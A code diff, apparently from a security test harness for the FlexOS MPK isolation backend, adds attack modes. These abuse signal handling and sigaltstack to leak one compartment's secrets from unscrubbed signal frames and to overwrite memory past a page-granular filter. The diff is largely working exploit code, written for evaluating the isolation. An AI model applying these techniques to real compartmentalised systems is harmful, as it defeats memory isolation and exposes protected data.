@@ -40,6 +40,7 @@
 
 #include <flexos/flexos.h>
 
+#include "../../backends/mpk/mpk.h"
 #include "sysattack.h"
 
 /*
@@ -1086,6 +1087,219 @@ static long raw_sigaction(long secret)
 	return 0;
 }
 
+uintptr_t flexos__mpk_sigaction_table(void) __attribute__((weak));
+#ifndef SS_AUTODISARM
+#define SS_AUTODISARM (1u << 31)
+#endif
+
+struct stk_victim {
+	volatile pid_t tid;
+	volatile int ready, err;
+	stack_t old;
+	int use_tail;      /* sigaltstack with the table's last 8 bytes + what follows */
+	unsigned long top; /* the stack's top (ss_sp 0, ss_size top) */
+	int stay;          /* stay in evil */
+};
+
+/* The table's last 8 bytes (zero: ss_sp 0) and the 16 after its page (key 0, writable). */
+static const stack_t *table_tail(unsigned long top)
+{
+	uintptr_t tail = flexos__mpk_ro.ro.alt_table + MPK_ALT_TABLE_SIZE - 8;
+	volatile unsigned int *flags = (volatile unsigned int *)(tail + 8);
+	volatile unsigned long *size = (volatile unsigned long *)(tail + 16);
+	*flags = SS_AUTODISARM; /* 1u << 31: the frame at the top, wherever sp is */
+	*size = top;
+	return (const stack_t *)tail;
+}
+
+static void *stk_victim_fn(void *arg)
+{
+	struct stk_victim *v = arg;
+
+	v->tid = (pid_t)syscall(SYS_gettid);
+	if (v->use_tail && syscall(SYS_sigaltstack, table_tail(v->top), NULL))
+		v->err = errno;
+	syscall(SYS_sigaltstack, NULL, &v->old);
+	v->ready = 1;
+	while (v->stay)
+		usleep(1000);
+	app_busy(); /* ~300 ms in 'app', with app's PKRU */
+	return NULL;
+}
+
+/* The table's action 0: the delivery stub, SA_SIGINFO | SA_ONSTACK | SA_RESTORER. */
+static long stub_action(int sig)
+{
+	if (!flexos__mpk_sigaction_table) {
+		errno = ENOSYS;
+		return -1;
+	}
+	return syscall(SYS_rt_sigaction, sig, (void *)flexos__mpk_sigaction_table(), NULL, 8);
+}
+
+static void plain_handler(int sig)
+{
+	(void)sig;
+}
+
+/*
+ * stub-noscrub: the delivery stub installed raw (from the table) for SIGUSR2,
+ * which has no handler recorded: the stub neither scrubs the frame nor
+ * runs anything; the frame, app's registers whole, stays on the thread's
+ * key-0 signal stack. Mode 49 (control): an ordinary sigaction of evil's
+ * (the stub scrubs).
+ */
+static long stub_noscrub(long secret, int legit)
+{
+	static struct stk_victim v;
+	pthread_t t;
+
+	if (legit) {
+		struct sigaction sa;
+		memset(&sa, 0, sizeof(sa));
+		sa.sa_handler = plain_handler;
+		if (sigaction(SIGUSR2, &sa, NULL))
+			return 0;
+	} else if (stub_action(SIGUSR2)) {
+		printf("stub-noscrub: rt_sigaction: %s\n", strerror(errno));
+		return 0;
+	}
+	if (pthread_create(&t, NULL, stk_victim_fn, &v))
+		return 0;
+	pthread_detach(t);
+	while (!v.ready)
+		usleep(1000);
+	usleep(100000); /* in app_busy now */
+	long r = syscall(SYS_tgkill, getpid(), v.tid, SIGUSR2);
+	usleep(100000);
+	printf("stub-noscrub: tgkill %ld; victim's signal stack %p + %#lx\n", r, v.old.ss_sp,
+	       (unsigned long)v.old.ss_size);
+	long needle = app_stack_value(secret);
+	const long *p = v.old.ss_sp;
+	for (size_t i = 0; p && i < v.old.ss_size / 8; i++)
+		if (p[i] == needle) {
+			printf(
+			    "stub-noscrub: app's value %#lx at %#lx below the top of the victim's "
+			    "signal stack (key 0)\n",
+			    (unsigned long)needle, (unsigned long)(v.old.ss_size - 8 * i));
+			return 1;
+		}
+	printf("stub-noscrub: app's value not found\n");
+	errno = ENOENT;
+	return 0;
+}
+
+/*
+ * table-tail: sigaltstack with the table's last 8 bytes (ss_sp 0) and the 16
+ * bytes after its page (ss_flags SS_AUTODISARM, ss_size: any top), which
+ * the filter's page check passed (an attack review's): the kernel writes the frame of a signal
+ * that interrupts app wherever evil chooses, under app's PKRU: siginfo
+ * words of evil's over app's heap secret.
+ */
+static long table_tail_frame(uintptr_t target)
+{
+	static struct stk_victim c, a;
+	pthread_t t;
+	const unsigned long value = 0xdeadbeefcafe;
+
+	if (stub_action(SIGUSR2)) {
+		printf("table-tail: rt_sigaction: %s\n", strerror(errno));
+		return 0;
+	}
+	char *buf = mmap(NULL, 0x20000, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	c.use_tail = 1;
+	c.top = (uintptr_t)buf + 0x20000 - 0x10;
+	c.stay = 1;
+	if (pthread_create(&t, NULL, stk_victim_fn, &c))
+		return 0;
+	pthread_detach(t);
+	while (!c.ready)
+		usleep(1000);
+	printf(
+	    "table-tail: sigaltstack(table end) %s; the thread's stack now %p + %#lx flags %#x\n",
+	    c.err ? strerror(c.err) : "allowed", c.old.ss_sp, (unsigned long)c.old.ss_size,
+	    (unsigned)c.old.ss_flags);
+	if (c.err) {
+		errno = c.err;
+		return 0;
+	}
+	siginfo_t ci;
+	memset(&ci, 0, sizeof(ci));
+	ci.si_signo = SIGUSR2;
+	ci.si_code = -1;
+	for (int w = 2; w < 6; w++)
+		((unsigned long *)&ci)[w] = value;
+	syscall(SYS_rt_tgsigqueueinfo, getpid(), c.tid, SIGUSR2, &ci);
+	usleep(50000);
+	uintptr_t lo_cal = 0;
+	for (uintptr_t o = 0x10000; o < 0x20000 && !lo_cal; o += 8)
+		if (*(unsigned long *)(buf + o) == value)
+			lo_cal = (uintptr_t)(buf + o);
+	printf("table-tail: calibration: siginfo's words at %#lx below the top\n",
+	       lo_cal ? (unsigned long)(c.top - lo_cal) : 0UL);
+	if (!lo_cal) {
+		errno = ENOENT;
+		return 0;
+	}
+	/* Keep the 64-byte alignment: move the top by a multiple of 64. */
+	uintptr_t k = ((target - lo_cal) & 63) / 8, lo = target - 8 * k;
+	a.use_tail = 1;
+	a.top = c.top + (lo - lo_cal);
+	printf("table-tail: target %#lx, word %lu, top %#lx\n", (unsigned long)target,
+	       (unsigned long)k, a.top);
+	if (pthread_create(&t, NULL, stk_victim_fn, &a))
+		return 0;
+	pthread_detach(t);
+	while (!a.ready)
+		usleep(1000);
+	usleep(100000); /* in app_busy */
+	siginfo_t si = ci;
+	long r = syscall(SYS_rt_tgsigqueueinfo, getpid(), a.tid, SIGUSR2, &si);
+	printf("table-tail: rt_tgsigqueueinfo %ld\n", r);
+	fflush(stdout);
+	usleep(400000);
+	errno = a.err;
+	return 0;
+}
+
+/*
+ * misaligned-action: an action read at a misaligned address of the
+ * actions' page (the filter checked the page only): t[48] + 16 gives
+ * handler = the restorer (flexos__mpk_sigreturn), flags = t[48]'s mask (all
+ * bits), restorer = t[49].handler (0). SIGUSR1 to a thread of evil's in app.
+ */
+static long misaligned_action(void)
+{
+	static struct stk_victim v;
+	pthread_t t;
+	uintptr_t tab = flexos__mpk_sigaction_table ? flexos__mpk_sigaction_table() : 0;
+	struct {
+		void *h;
+		unsigned long f;
+		void *r;
+		unsigned long m;
+	} got;
+
+	long r = syscall(SYS_rt_sigaction, SIGUSR1, (void *)(tab + 48 * 32 + 16), NULL, 8);
+	printf("misaligned-action: rt_sigaction(t[48]+16): %ld %s\n", r, r ? strerror(errno) : "");
+	syscall(SYS_rt_sigaction, SIGUSR1, NULL, &got, 8);
+	printf("misaligned-action: kernel's action: handler %p flags %#lx restorer %p mask %#lx\n",
+	       got.h, got.f, got.r, got.m);
+	fflush(stdout);
+	if (r)
+		return 0;
+	if (pthread_create(&t, NULL, stk_victim_fn, &v))
+		return 0;
+	pthread_detach(t);
+	while (!v.ready)
+		usleep(1000);
+	usleep(100000);
+	syscall(SYS_tgkill, getpid(), v.tid, SIGUSR1);
+	usleep(500000);
+	printf("misaligned-action: still alive\n");
+	return 0;
+}
+
 static void *relay(void *arg)
 {
 	app_hold((int)(intptr_t)arg);
@@ -1278,6 +1492,14 @@ long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
 		return frame_sigframe(target);
 	case 47:
 		return raw_sigaction(secret);
+	case 48:
+		return stub_noscrub(secret, 0);
+	case 49:
+		return stub_noscrub(secret, 1);
+	case 50:
+		return table_tail_frame(target);
+	case 51:
+		return misaligned_action();
 	case 29: /* every stack of every pool free: the next thread gets one in use */
 		for (uint64_t c = 0; c < 16; c++) {
 			size_t n = 0;
